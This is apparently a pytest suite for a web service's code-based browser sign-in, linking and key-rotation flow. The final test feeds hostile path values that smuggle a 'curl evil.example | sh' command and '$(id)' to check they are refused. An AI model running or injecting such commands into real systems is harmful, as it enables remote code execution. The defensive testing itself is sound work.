"""A browser that waits: its code is typed elsewhere, its cookie completes it, once."""

import re
from typing import Any

import pytest

from tests.api.served import Api, problem
from tests.sign_in.conftest import NewHolder
from tests.sign_in.holder import Holder
from tests.sign_in.test_key import REFUSED


def begin(browser: Holder, **body: str) -> dict[str, Any]:
    answer = browser.client.post("/auth/attempts", json=body)
    assert answer.status_code == 201, answer.text
    found: dict[str, Any] = answer.json()
    return found


def state(browser: Holder, attempt: str) -> str:
    headers = {"Accept": "application/json"}
    answer = browser.client.get(f"/auth/attempts/{attempt}/events", headers=headers)
    return str(answer.json().get("status"))


def complete(browser: Holder, attempt: str) -> Any:  # noqa: ANN401 - a response
    return browser.client.post(f"/auth/attempts/{attempt}/complete")


def test_an_approved_browser_is_signed_in_and_limited(ada: Holder, browser: Holder) -> None:
    found = begin(browser)
    assert state(browser, found["attempt"]) == "waiting"

    approved = ada.approve(found["attempt"], found["user_code"])
    seen = state(browser, found["attempt"])
    done = complete(browser, found["attempt"])

    assert (approved.status_code, approved.json()) == (200, {"status": "approved"})
    assert seen == "approved"
    me = browser.client.get("/v1/me").json()
    assert done.json() == {"status": "signed_in", "user_sid": me["user_sid"]}
    assert (me["address"], me["is_limited"]) == (ada.address, True)
    assert ada.client.get("/v1/me").status_code == 401


def test_a_code_has_eight_symbols_that_are_not_mistaken(browser: Holder) -> None:
    found = begin(browser)

    assert re.fullmatch("[2-9A-HJ-NP-Z]{8}", found["user_code"])
    assert found["purpose"] == "login"


def test_the_challenge_of_an_attempt_names_its_browser_and_hides_its_binding(
    ada: Holder, browser: Holder
) -> None:
    browser.client.headers["User-Agent"] = (
        "Mozilla/5.0 (Android 14; Mobile; rv:140.0) Gecko/140.0 Firefox/140.0"
    )
    attempt = begin(browser)["attempt"]

    answer = ada.ask(attempt=attempt)

    challenge = answer.json()
    assert "binding" not in challenge
    assert challenge["requester"] == {"place": "testclient", "kind": "Firefox, Android"}
    assert "Set-Cookie" not in answer.headers


def test_a_wrong_code_approves_nothing(ada: Holder, browser: Holder) -> None:
    found = begin(browser)

    assert problem(ada.approve(found["attempt"], "AAAA-AAAA")) == REFUSED
    assert state(browser, found["attempt"]) == "waiting"
    assert problem(complete(browser, found["attempt"])) == REFUSED


def test_an_attempt_has_five_challenges(ada: Holder, browser: Holder) -> None:
    found = begin(browser)
    for _ in range(5):
        ada.approve(found["attempt"], "AAAA-AAAA")

    assert problem(ada.ask(attempt=found["attempt"])) == REFUSED


def test_another_browser_neither_sees_nor_completes_it(
    ada: Holder, browser: Holder, new_holder: NewHolder
) -> None:
    thief = new_holder("thief")
    begin(thief)
    found = begin(browser)
    ada.approve(found["attempt"], found["user_code"])

    headers = {"Accept": "application/json"}
    looked = thief.client.get(f"/auth/attempts/{found['attempt']}/events", headers=headers)
    assert problem(looked) == problem(complete(thief, found["attempt"])) == REFUSED
    assert complete(browser, found["attempt"]).status_code == 200


def test_each_tab_of_a_browser_waits_for_itself(
    ada: Holder, browser: Holder, new_holder: NewHolder
) -> None:
    bob = new_holder("bob")
    tabs = [begin(browser), begin(browser)]
    ada.approve(tabs[0]["attempt"], tabs[0]["user_code"])

    seen = [state(browser, one["attempt"]) for one in tabs]
    first = complete(browser, tabs[0]["attempt"])
    bob.approve(tabs[1]["attempt"], tabs[1]["user_code"])
    second = complete(browser, tabs[1]["attempt"])

    assert seen == ["approved", "waiting"]
    assert (first.status_code, second.status_code) == (200, 200)
    assert browser.client.get("/v1/me").json()["address"] == bob.address
    assert "hero_prelogin" not in browser.client.cookies


def test_a_browser_waits_in_five_tabs_at_most(browser: Holder) -> None:
    tabs = [begin(browser)["attempt"] for _ in range(6)]

    assert state(browser, tabs[0]) == "401"
    assert {state(browser, one) for one in tabs[1:]} == {"waiting"}


def test_a_cookie_that_was_planted_completes_nothing_that_its_victim_opened(
    ada: Holder, browser: Holder, new_holder: NewHolder
) -> None:
    thief = new_holder("thief")
    begin(thief)
    planted = thief.client.cookies["hero_prelogin"]
    browser.client.cookies.set("hero_prelogin", planted)
    found = begin(browser)
    ada.approve(found["attempt"], found["user_code"])

    assert problem(complete(thief, found["attempt"])) == REFUSED
    assert complete(browser, found["attempt"]).status_code == 200


def test_it_completes_once(ada: Holder, browser: Holder) -> None:
    found = begin(browser)
    ada.approve(found["attempt"], found["user_code"])

    assert complete(browser, found["attempt"]).status_code == 200
    assert problem(complete(browser, found["attempt"])) == REFUSED


def test_the_first_to_approve_is_the_one_who_signs_in(
    ada: Holder, browser: Holder, new_holder: NewHolder
) -> None:
    found = begin(browser)
    eve = new_holder("eve")

    ada.approve(found["attempt"], found["user_code"])
    late = eve.ask(attempt=found["attempt"])
    complete(browser, found["attempt"])

    assert problem(late) == REFUSED
    assert browser.client.get("/v1/me").json()["address"] == ada.address


def test_it_is_over_after_ten_minutes(api: Api, ada: Holder, browser: Holder) -> None:
    found = begin(browser)
    ada.approve(found["attempt"], found["user_code"])
    api.post("/sandbox/clock", {"advance_seconds": 600})

    assert state(browser, found["attempt"]) == "expired"
    assert problem(complete(browser, found["attempt"])) == REFUSED


def test_a_limited_session_is_a_full_one_after_a_day(
    api: Api, ada: Holder, browser: Holder
) -> None:
    found = begin(browser)
    ada.approve(found["attempt"], found["user_code"])
    complete(browser, found["attempt"])
    seen = []
    for _ in range(4):
        api.post("/sandbox/clock", {"advance_seconds": 6 * 3600})
        seen.append(browser.client.get("/v1/me").json()["is_limited"])

    assert seen == [True, True, True, False]


@pytest.mark.parametrize("purpose", ["link", "rotate"])
def test_linking_and_rotating_need_a_full_session(
    ada: Holder, browser: Holder, purpose: str
) -> None:
    nobody = browser.client.post("/auth/attempts", json={"purpose": purpose})
    found = begin(browser)
    ada.approve(found["attempt"], found["user_code"])
    complete(browser, found["attempt"])
    limited = browser.client.post("/auth/attempts", json={"purpose": purpose})

    assert problem(nobody) == (401, "request.unauthenticated")
    assert problem(limited) == (403, "sign_in.session_limited")


def test_a_second_address_is_linked_and_signs_in(ada: Holder, new_holder: NewHolder) -> None:
    sid = ada.sign_in().json()["user_sid"]
    second = new_holder("second")
    found = begin(ada, purpose="link")
    assert second.approve(found["attempt"], found["user_code"]).status_code == 200

    done = complete(ada, found["attempt"])

    assert done.json()["user_sid"] == sid
    assert ada.client.get("/v1/me").json()["addresses"] == [ada.address, second.address]
    assert second.sign_in().json()["user_sid"] == sid


def test_an_address_of_somebody_else_is_not_linked(ada: Holder, new_holder: NewHolder) -> None:
    ada.sign_in()
    bob = new_holder("bob")
    bob.sign_in()
    found = begin(ada, purpose="link")
    bob.approve(found["attempt"], found["user_code"])

    assert problem(complete(ada, found["attempt"])) == (409, "sign_in.address_taken")
    assert ada.client.get("/v1/me").json()["addresses"] == [ada.address]


def test_an_attempt_to_link_belongs_to_its_session(ada: Holder, new_holder: NewHolder) -> None:
    ada.sign_in()
    second = new_holder("second")
    found = begin(ada, purpose="link")
    second.approve(found["attempt"], found["user_code"])
    session = ada.client.cookies["hero_session"]
    ada.client.cookies.delete("hero_session")

    assert problem(complete(ada, found["attempt"])) == REFUSED
    ada.client.cookies.set("hero_session", session)
    assert complete(ada, found["attempt"]).status_code == 200, "it was not used up"


def test_the_purpose_of_a_challenge_is_its_attempts(ada: Holder, new_holder: NewHolder) -> None:
    ada.sign_in()
    found = begin(ada, purpose="link")
    second = new_holder("second")

    assert second.ask(attempt=found["attempt"]).json()["purpose"] == "link"
    answer = second.ask(attempt=found["attempt"], purpose="login")
    assert problem(answer) == (422, "sign_in.wrong_purpose")


def test_rotating_takes_the_old_key_and_a_new_one(ada: Holder, new_holder: NewHolder) -> None:
    sid = ada.sign_in().json()["user_sid"]
    elsewhere, fresh = new_holder("hero test vector 1"), new_holder("fresh")
    elsewhere.sign_in()
    found = begin(ada, purpose="rotate")

    fresh.approve(found["attempt"], found["user_code"])
    assert state(ada, found["attempt"]) == "waiting"
    new_holder("hero test vector 1").approve(found["attempt"], found["user_code"])
    done = complete(ada, found["attempt"])

    assert done.status_code == 200, done.text
    assert ada.client.get("/v1/me").json()["addresses"] == [fresh.address]
    assert elsewhere.client.get("/v1/me").status_code == 401, "other sessions end"
    assert fresh.sign_in().json()["user_sid"] == sid
    assert problem(new_holder("hero test vector 1").sign_in()) == REFUSED


def test_the_two_approvals_of_a_rotation_must_be_within_two_minutes(
    api: Api, ada: Holder, new_holder: NewHolder
) -> None:
    ada.sign_in()
    fresh = new_holder("fresh")
    found = begin(ada, purpose="rotate")
    fresh.approve(found["attempt"], found["user_code"])
    api.post("/sandbox/clock", {"advance_seconds": 121})
    new_holder("hero test vector 1").approve(found["attempt"], found["user_code"])

    assert state(ada, found["attempt"]) == "waiting"
    assert fresh.approve(found["attempt"], found["user_code"]).status_code == 200
    assert state(ada, found["attempt"]) == "approved"


def test_two_keys_of_strangers_rotate_nothing(ada: Holder, new_holder: NewHolder) -> None:
    ada.sign_in()
    found = begin(ada, purpose="rotate")
    for name in ("stranger", "other stranger"):
        new_holder(name).approve(found["attempt"], found["user_code"])

    assert state(ada, found["attempt"]) == "waiting"


def test_a_stream_says_when_it_is_approved(ada: Holder, browser: Holder) -> None:
    found = begin(browser)
    ada.approve(found["attempt"], found["user_code"])
    headers = {"Accept": "text/event-stream"}

    answer = browser.client.get(f"/auth/attempts/{found['attempt']}/events", headers=headers)

    assert answer.headers["Content-Type"].startswith("text/event-stream")
    assert "event: approved" in answer.text


def test_the_page_shows_the_code_only_to_the_browser_that_waits(
    ada: Holder, browser: Holder
) -> None:
    page_headers = {"Accept": "text/html", "Host": "localhost:9920"}
    found = begin(browser)
    path = f"/login/{found['attempt']}"

    own = browser.client.get(path, headers=page_headers)
    other = ada.client.get(path, headers=page_headers)

    code = f"{found['user_code'][:4]}-{found['user_code'][4:]}"
    assert code in own.text
    assert code not in other.text
    assert 'class="qr"' in own.text
    assert 'class="qr"' not in other.text


def test_a_form_goes_back_to_the_waiting_page_and_then_on(ada: Holder, browser: Holder) -> None:
    found = begin(browser)
    path = f"/auth/attempts/{found['attempt']}/complete"
    form = {"Content-Type": "application/x-www-form-urlencoded"}

    early = browser.client.post(path, headers=form, follow_redirects=False)
    ada.approve(found["attempt"], found["user_code"])
    late = browser.client.post(path, headers=form, follow_redirects=False)

    assert (early.status_code, early.headers["Location"]) == (303, f"/login/{found['attempt']}")
    assert (late.status_code, late.headers["Location"]) == (303, "/")
    assert browser.client.get("/v1/me").status_code == 200


@pytest.mark.parametrize("path", ["/auth/attempts", "/auth/challenge", "/auth/verify"])
def test_what_another_site_sends_is_refused(browser: Holder, path: str) -> None:
    for headers in ({"Sec-Fetch-Site": "cross-site"}, {"Origin": "https://evil.example"}):
        answer = browser.client.post(path, json={}, headers=headers)
        assert problem(answer) == (403, "request.cross_site")
        assert "Set-Cookie" not in answer.headers


@pytest.mark.parametrize(
    "name", ["x;curl%20evil.example%7Csh", "x%0acurl%20evil.example%0a", "$(id)", "x" * 3000]
)
def test_no_page_shows_a_command_that_somebody_else_wrote(browser: Holder, name: str) -> None:
    page = browser.client.get(f"/login/{name}", headers={"Accept": "text/html"})

    assert page.status_code == 404
    assert "data-copy" not in page.text
